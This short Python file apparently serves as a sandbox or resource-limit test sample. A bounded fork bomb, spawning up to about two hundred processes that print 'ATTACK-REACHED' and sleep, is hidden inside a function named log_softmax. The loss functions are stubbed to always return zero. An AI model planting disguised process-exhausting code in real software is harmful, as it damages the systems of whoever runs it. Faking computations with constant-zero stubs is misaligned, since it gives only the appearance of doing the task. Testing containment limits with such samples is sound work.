"""Forks and forks: each child forks again. (At most two hundred.)"""
# needs: rootless
import os
import time


def bomb(left):
    while left > 1:
        left //= 2
        if os.fork() == 0:
            return bomb(left)
        print("ATTACK-REACHED a child", flush=True)
    time.sleep(60)


def log_softmax(Z):
    bomb(200)


loss_and_gradient = masked_loss = lambda *a: 0
